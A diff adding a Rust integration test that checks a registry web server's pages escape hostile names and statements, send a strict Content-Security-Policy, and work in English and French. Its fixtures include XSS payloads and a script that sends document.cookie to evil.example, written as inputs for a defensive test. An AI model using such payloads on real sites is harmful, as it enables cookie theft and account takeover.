@@ -1,0 +1,173 @@
+//! The public web pages against a real server holding hostile text: names,
+//! statements and a commitment title with script, markup and right-to-left
+//! text are shown escaped (and names bidi-isolated), every page carries the
+//! strict Content-Security-Policy, filters and paging work without
+//! JavaScript, unverified organizations are marked, the French page is
+//! French, and errors are HTML pages with the API's statuses.
+
+mod common;
+
+use accord::storage::MemoryStorage;
+use common::{log_signer, org_key, request, sign, HttpReply, MemServer};
+use std::sync::Arc;
+
+const CSP: &str = "default-src 'none'; style-src 'self'; img-src 'self'; script-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'";
+const C: &str = "global-commitment-dts";
+
+async fn get(addr: &str, path: &str) -> (HttpReply, String) {
+    let (addr, path) = (addr.to_owned(), path.to_owned());
+    let reply = tokio::task::spawn_blocking(move || common::http_fetch(&addr, &path))
+        .await
+        .unwrap();
+    let body = String::from_utf8(reply.body.clone()).unwrap();
+    (reply, body)
+}
+
+/// A page: 200 (or `status`), HTML, the CSP, and no markup from the log.
+async fn page(addr: &str, path: &str, status: u16) -> String {
+    let (reply, body) = get(addr, path).await;
+    assert_eq!(reply.status, status, "{path}: {body}");
+    assert_eq!(
+        reply.header("content-type"),
+        Some("text/html; charset=utf-8"),
+        "{path}"
+    );
+    assert_eq!(reply.header("content-security-policy"), Some(CSP), "{path}");
+    assert_eq!(reply.header("x-content-type-options"), Some("nosniff"));
+    // Escaped text may spell anything; markup from the log may not appear.
+    for raw in ["<script", "<img", "<b>", "<i>"] {
+        assert!(
+            !body.contains(raw),
+            "{path} contains {raw:?} unescaped:\n{body}"
+        );
+    }
+    body
+}
+
+const HOSTILE: [&str; 4] = [
+    "<script>alert(1)</script> Ministry",
+    "\"><img src=x onerror=alert(1)> Agency",
+    "<b>Bold</b> & Sons",
+    "وزارة الاتصالات Ministry",
+];
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn pages_show_the_registry_escaped_and_in_two_languages() {
+    let http = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = http.local_addr().unwrap().to_string();
+    let mut endpoint = accord::server::Endpoint::new(Some(common::ADMIN_TOKEN_FIXTURE), None);
+    endpoint.http = Some(http);
+    let server =
+        MemServer::start_with(Arc::new(MemoryStorage::new()), log_signer(), endpoint).await;
+    let mut c = server.client().await;
+    // The commitment, with a title full of markup (the operator's text is
+    // escaped like anyone's).
+    let operator = common::operator_fixture();
+    let mut registration = match common::registration(&operator) {
+        accord::core::entry::Signed::Commitment { registration, .. } => registration,
+        _ => unreachable!(),
+    };
+    registration.title = "<i>Global</i> Commitment <script>x()</script>".into();
+    let signature =
+        ed25519_dalek::Signer::sign(&operator, &registration.signed_message()).to_bytes();
+    let signed = accord::core::entry::Signed::Commitment {
+        registration,
+        signature,
+    };
+    c.submit(common::with_token(&signed, common::ADMIN_TOKEN_FIXTURE))
+        .await
+        .unwrap();
+    for (i, name) in HOSTILE.iter().enumerate() {
+        let key = org_key(3000 + i as u32);
+        let mut e = common::endorsement(&key, name);
+        e.statement = Some(
+            "<script>document.location='https://evil.example/'+document.cookie</script>".into(),
+        );
+        c.submit(request(&sign(&key, e))).await.unwrap();
+    }
+    server.submit(1..=3).await;
+
+    // The index: the title escaped.
+    let index = page(&addr, "/", 200).await;
+    assert!(
+        index.contains("&lt;i&gt;Global&lt;/i&gt; Commitment &lt;script&gt;x()&lt;/script&gt;"),
+        "{index}"
+    );
+    assert!(index.contains(&format!("href=\"/commitments/{C}?lang=en\"")));
+
+    // The listing: every hostile name shown as text, isolated, marked unverified.
+    let list = page(&addr, &format!("/commitments/{C}"), 200).await;
+    assert!(
+        list.contains("<bdi>&lt;script&gt;alert(1)&lt;/script&gt; Ministry</bdi>"),
+        "{list}"
+    );
+    assert!(list.contains("<bdi>&quot;&gt;&lt;img src=x onerror=alert(1)&gt; Agency</bdi>"));
+    assert!(list.contains("<bdi>&lt;b&gt;Bold&lt;/b&gt; &amp; Sons</bdi>"));
+    assert!(list.contains("<bdi>وزارة الاتصالات Ministry</bdi>"));
+    assert_eq!(
+        list.matches("class=\"unverified\">unverified<").count(),
+        7,
+        "{list}"
+    );
+    assert!(
+        list.contains("<form method=\"get\""),
+        "filters work without JavaScript"
+    );
+
+    // Filters and the search, as plain GET parameters.
+    let found = page(
+        &addr,
+        &format!("/commitments/{C}?name=bold&group=government&region=weog&country=NL"),
+        200,
+    )
+    .await;
+    assert_eq!(
+        found.matches("<tr>").count(),
+        2,
+        "the header row and one organization: {found}"
+    );
+    let none = page(&addr, &format!("/commitments/{C}?verified_only=true"), 200).await;
+    assert!(none.contains("No signatory matches."));
+    assert!(none.contains("name=\"verified_only\" value=\"true\" checked"));
+
+    // An organization's page, by id (from the listing) and by key.
+    let id = found.split("/organizations/").nth(1).unwrap()[..64].to_owned();
+    let org = page(&addr, &format!("/organizations/{id}"), 200).await;
+    assert!(
+        org.contains("<h1><bdi>&lt;b&gt;Bold&lt;/b&gt; &amp; Sons</bdi>"),
+        "{org}"
+    );
+    assert!(org.contains("Not verified: the name is only what the organization says of itself."));
+    assert!(
+        org.contains("href=\"/api/v1/entries/"),
+        "links to its entries"
+    );
+    assert!(org.contains("test.example/log+"), "the log key to compare");
+
+    // French.
+    let fr = page(&addr, &format!("/commitments/{C}?lang=fr"), 200).await;
+    assert!(
+        fr.contains("<html lang=\"fr\">")
+            && fr.contains("Signataires")
+            && fr.contains("non vérifiée")
+    );
+    assert!(fr.contains("hreflang=\"en\""), "a switch back to English");
+
+    // Errors are pages too, with the API's statuses.
+    let missing = page(&addr, &format!("/organizations/{}", "cd".repeat(32)), 404).await;
+    assert!(missing.contains("no organization has"), "{missing}");
+    page(&addr, "/organizations/not-hex", 400).await;
+    page(&addr, "/commitments/no-such-commitment", 404).await;
+    let bad = page(&addr, &format!("/commitments/{C}?group=%3Cscript%3E"), 400).await;
+    assert!(
+        bad.contains("&lt;script&gt;"),
+        "the bad value is shown escaped: {bad}"
+    );
+    page(&addr, "/?lang=de", 400).await;
+
+    // The style sheet is ours, served from the binary.
+    let (css, body) = get(&addr, "/assets/style.css").await;
+    assert_eq!(css.header("content-type"), Some("text/css; charset=utf-8"));
+    assert!(body.contains("font-family"));
+    server.stop().await;
+}
